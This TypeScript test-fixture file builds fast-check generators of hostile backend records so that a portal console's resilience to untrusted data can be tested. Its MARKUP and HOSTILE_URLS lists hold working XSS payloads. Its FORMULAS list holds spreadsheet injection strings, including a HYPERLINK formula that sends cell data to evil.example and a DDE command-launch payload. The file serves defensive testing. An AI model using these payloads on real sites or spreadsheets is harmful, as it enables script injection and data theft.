import fc from 'fast-check';
import type { CertificationDetail, DistributorDeal, Member, PartnerDeal, QuizQuestion, Resource } from '../../src/api/types.js';

/**
 * fast-check arbitraries for records of the SPEC 3 entities as a backend we do not control might
 * send them: any field missing, null, of the wrong type (numbers, booleans, objects, arrays where
 * text belongs), empty, 10,000 characters long, right-to-left or astral-plane text, markup that
 * would run script if it were ever parsed as HTML, spreadsheet formulas, unparseable dates, and
 * ids shared by several records. Ids stay what the HTTP client's boundary checks let through: a
 * finite number or a non-blank string.
 */

/** Markup that creates an element (and sets window.__pwned) if it is ever inserted as HTML. */
export const MARKUP = [
  '<img src=x onerror="window.__pwned=1">',
  '<script>window.__pwned=1</script>',
  '"><svg onload=window.__pwned=1>',
  '<iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>',
  '<a href="javascript:window.__pwned=1">click</a>',
] as const;

export const FORMULAS = ['=HYPERLINK("https://evil.example/?"&A1,"x")', '+1+1', '-2', '@SUM(1)', '\t=1', '\r=1+1', "=cmd|' /C calc'!A0"] as const;

export const ODD_TEXT = [
  '\u202Eevil',
  '𝕳𝖊𝖑𝖑𝖔',
  '👩‍👩‍👧‍👦',
  'مرحبا بالعالم — שלום עולם',
  '𠜎𠜱 𝌆 \u0000 \uFEFF \u200B',
  'x'.repeat(10_000),
  'Very long text with spaces. '.repeat(358).slice(0, 10_000),
  '',
  '   ',
  '-',
  'null',
  'undefined',
  '__proto__',
  'constructor',
] as const;

export const BAD_DATES = ['not a date', '2026-02-30', '2026-13-45T99:99:99Z', '0000-00-00', '+275760-09-13T00:00:01Z', '1e999', '2026-06-30T12:00:00.000Z'] as const;

/** Strings the console must show as text whatever they contain. */
export const HOSTILE_STRINGS: readonly string[] = [...MARKUP, ...FORMULAS, ...ODD_TEXT, ...BAD_DATES];

/** Non-blank hostile strings: what a server could send as an id or an error message. */
export const NON_BLANK_HOSTILE: readonly string[] = HOSTILE_STRINGS.filter((text) => text.trim() !== '');

/** JSON-shaped values of the wrong type, including an object whose toString is not a function. */
const WRONG_TYPES: readonly unknown[] = [
  null,
  0,
  -0,
  1e308,
  -1,
  8.64e15 + 1,
  true,
  false,
  {},
  [],
  ['a', 'b'],
  { a: { b: 1 } },
  { toString: 'x', valueOf: 'y' },
  { message: MARKUP[0] },
];

/** Any value a JSON field might hold, hostile strings first. */
export const hostileValue: fc.Arbitrary<unknown> = fc.oneof(
  { arbitrary: fc.constantFrom(...HOSTILE_STRINGS), weight: 6 },
  { arbitrary: fc.constantFrom(...WRONG_TYPES), weight: 3 },
  { arbitrary: fc.string({ unit: 'binary', maxLength: 24 }), weight: 2 },
  { arbitrary: fc.integer(), weight: 1 },
  { arbitrary: fc.double(), weight: 1 },
  { arbitrary: fc.constant(undefined), weight: 1 },
);

/** A date field: often a valid ISO date (so sorting and ranges meet real dates), else anything. */
const dateValue: fc.Arbitrary<unknown> = fc.oneof(
  fc.date({ min: new Date('2020-01-01T00:00:00Z'), max: new Date('2027-01-01T00:00:00Z'), noInvalidDate: true }).map((date) => date.toISOString()),
  fc.constantFrom(...BAD_DATES),
  hostileValue,
);

const booleanValue: fc.Arbitrary<unknown> = fc.oneof(fc.boolean(), hostileValue);
const statusValue = (...valid: string[]): fc.Arbitrary<unknown> => fc.oneof(fc.constantFrom(...valid), hostileValue);
const numberValue: fc.Arbitrary<unknown> = fc.oneof(fc.integer({ min: 0, max: 100 }), hostileValue);

/** Ids from a small range (so duplicates are common) or non-blank hostile strings. */
export const hostileId: fc.Arbitrary<number | string> = fc.oneof(
  { arbitrary: fc.integer({ min: 1, max: 6 }), weight: 3 },
  { arbitrary: fc.constantFrom(...NON_BLANK_HOSTILE), weight: 1 },
);

/** A record whose every field is optional and hostile; `fields` maps names to their arbitraries. */
function hostileRecord<T>(fields: Record<string, fc.Arbitrary<unknown>>): fc.Arbitrary<T> {
  return fc.record({ id: hostileId, ...fields }, { requiredKeys: ['id'] }) as unknown as fc.Arbitrary<T>;
}

const text = (names: readonly string[]) => Object.fromEntries(names.map((name) => [name, hostileValue]));

export const hostileMember: fc.Arbitrary<Member> = hostileRecord<Member>({
  ...text(['firstName', 'lastName', 'title', 'email', 'countryCode', 'phoneNumber', 'position', 'companyName', 'companySize', 'address', 'street', 'city', 'country']),
  isApproved: booleanValue,
  isActive: booleanValue,
  createdAt: dateValue,
  updatedAt: dateValue,
});

const DEAL_TEXT = [
  'customerCompany',
  'dmTitle',
  'dmFirstName',
  'dmLastName',
  'dmEmail',
  'dmCountryCode',
  'dmPhoneNumber',
  'address',
  'city',
  'state',
  'postalCode',
  'country',
  'e7PartnerManagerFirstName',
  'e7PartnerManagerLastName',
  'e7AccountExecutiveFirstName',
  'e7AccountExecutiveLastName',
  'engagementType',
  'resellerEngagement',
  'opportunityNumber',
  'otherResellerEngagement',
  'descriptionCustomerNeeds',
  'e7ProductPosition',
  'e7Platform',
  'years',
  'mdfFunding',
  'mdfActivityName',
  'comments',
  'remarks',
] as const;

const dealBase = {
  ...text(DEAL_TEXT),
  isExistingCustomer: booleanValue,
  isMultiYear: booleanValue,
  status: statusValue('approved', 'rejected', 'pending', 'APPROVED', 'Under Review'),
  createdAt: dateValue,
  updatedAt: dateValue,
};

export const hostilePartnerDeal: fc.Arbitrary<PartnerDeal> = hostileRecord<PartnerDeal>({
  ...dealBase,
  ...text(['partnerFirstName', 'partnerLastName', 'partnerTitle', 'partnerCompany']),
  partnerId: fc.oneof(hostileId, hostileValue),
});

export const hostileDistributorDeal: fc.Arbitrary<DistributorDeal> = hostileRecord<DistributorDeal>({
  ...dealBase,
  ...text(['distributorFirstName', 'distributorLastName', 'distributorTitle', 'distributorCompany', 'distributorName', 'distributorEmail']),
  distributorId: fc.oneof(hostileId, hostileValue),
});

const CONTENT_TYPES = ['SALES_VIDEOS', 'TECH_VIDEOS', 'DATASHEET', 'PRESENTATION', 'BRANDING', 'MARKETING_CAMPAIGNS'];
const HOSTILE_URLS = [
  'javascript:window.__pwned=1',
  ' JaVaScRiPt:window.__pwned=1',
  'data:text/html,<script>window.__pwned=1</script>',
  'vbscript:msgbox(1)',
  '"><img src=x onerror="window.__pwned=1">',
  'https://files.example.com/a.mp4',
  'https://files.example.com/b.pdf',
  'https://files.example.com/c.png',
  '/api/files/relative.pdf',
];

/** A resource; mostly in the Learning tab (shown first), so the list has rows to draw. */
export const hostileResource: fc.Arbitrary<Resource> = hostileRecord<Resource>({
  title: hostileValue,
  createdAt: dateValue,
  contentType: fc.oneof(fc.constantFrom(...CONTENT_TYPES), hostileValue),
  url: fc.oneof(fc.constantFrom(...HOSTILE_URLS), hostileValue),
  publishedBy: hostileValue,
}).chain((resource) =>
  fc.oneof({ arbitrary: fc.constant('LEARNING'), weight: 4 }, { arbitrary: fc.constantFrom('SALES', 'MARKETING'), weight: 1 }).map((resourceType) => ({ ...resource, resourceType })),
);

const optionValue = fc.oneof(fc.constantFrom('A', 'B', 'Option-C', 'Option-D', 'option-b'), hostileValue);

export const hostileQuestion: fc.Arbitrary<QuizQuestion> = hostileRecord<QuizQuestion>({
  ...text(['question', 'optionA', 'optionB', 'optionC', 'optionD']),
  marks: numberValue,
  correctOption: optionValue,
  createdAt: dateValue,
  updatedAt: dateValue,
});

export const hostileCertification: fc.Arbitrary<CertificationDetail> = fc.record({
  certification: hostileRecord({
    ...text(['name', 'designation', 'remarks']),
    type: statusValue('SALES', 'TECH', 'TECHNICAL'),
    createdAt: dateValue,
    totalQuestions: numberValue,
    totalMarks: numberValue,
    marksAttained: numberValue,
    status: statusValue('APPROVED', 'REJECTED', 'PENDING'),
  }),
  quiz: fc.oneof(
    { arbitrary: fc.array(hostileRecord({ ...text(['question', 'optionA', 'optionB', 'optionC', 'optionD']), correctOption: optionValue, selectedOption: optionValue }), { maxLength: 4 }), weight: 5 },
    { arbitrary: hostileValue, weight: 1 },
  ),
}) as unknown as fc.Arbitrary<CertificationDetail>;

/** A list of records: empty, one page, or more than a page (SPEC 9: ten per page). */
export const listOf = <T>(record: fc.Arbitrary<T>) => fc.array(record, { minLength: 0, maxLength: 13 });

/** A failure for the list call, or none: a server message that is itself hostile text. */
export const maybeServerFailure: fc.Arbitrary<string | null> = fc.oneof({ arbitrary: fc.constant(null), weight: 4 }, { arbitrary: fc.constantFrom(...NON_BLANK_HOSTILE), weight: 1 });

/** How many runs each screen's property gets: enough variety, bounded time (each run renders React). */
export const RUNS = Number(process.env.RESILIENCE_RUNS ?? 15);

/**
 * fast-check options for a screen property: RUNS runs, and a time limit so that a slow machine
 * (two busy cores) or a long shrink of a failure never outlives the test's own timeout. A run cut
 * short by the limit is not a failure; a failure found before it is reported (shrunk as far as
 * time allowed).
 */
export const PROPERTY_OPTIONS = { numRuns: RUNS, interruptAfterTimeLimit: 25_000 } as const;

/** The timeout of a property test: the time limit plus the run under way and the teardown. */
export const PROPERTY_TIMEOUT_MS = 45_000;
